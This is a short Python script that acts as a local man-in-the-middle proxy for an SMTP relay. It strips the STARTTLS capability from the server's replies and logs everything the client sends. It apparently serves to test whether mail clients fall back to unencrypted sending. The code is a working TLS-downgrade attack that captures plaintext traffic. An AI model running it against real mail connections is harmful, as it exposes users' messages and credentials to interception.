"""A man in the middle: an SMTP relay without STARTTLS.

    strip_proxy.py PORT LOG

Prints "PORT N", passes everything on to PORT on loopback, takes STARTTLS out of
what the relay offers, and writes what the client says to LOG.
"""

import re
import socket
import sys
import threading


def copy(source, sink, change):
    with source, sink:
        while True:
            text = source.recv(65536)
            if not text:
                return
            sink.sendall(change(text))


def strip(text):
    return re.sub(rb"250-STARTTLS\r\n", b"", text)


def keep(text):
    with open(sys.argv[2], "ab") as log:
        log.write(text)
    return text


listener = socket.create_server(("127.0.0.1", 0))
print("PORT", listener.getsockname()[1], flush=True)
while True:
    client, _ = listener.accept()
    relay = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
    for ends in ((client, relay, keep), (relay, client, strip)):
        threading.Thread(target=copy, args=ends, daemon=True).start()
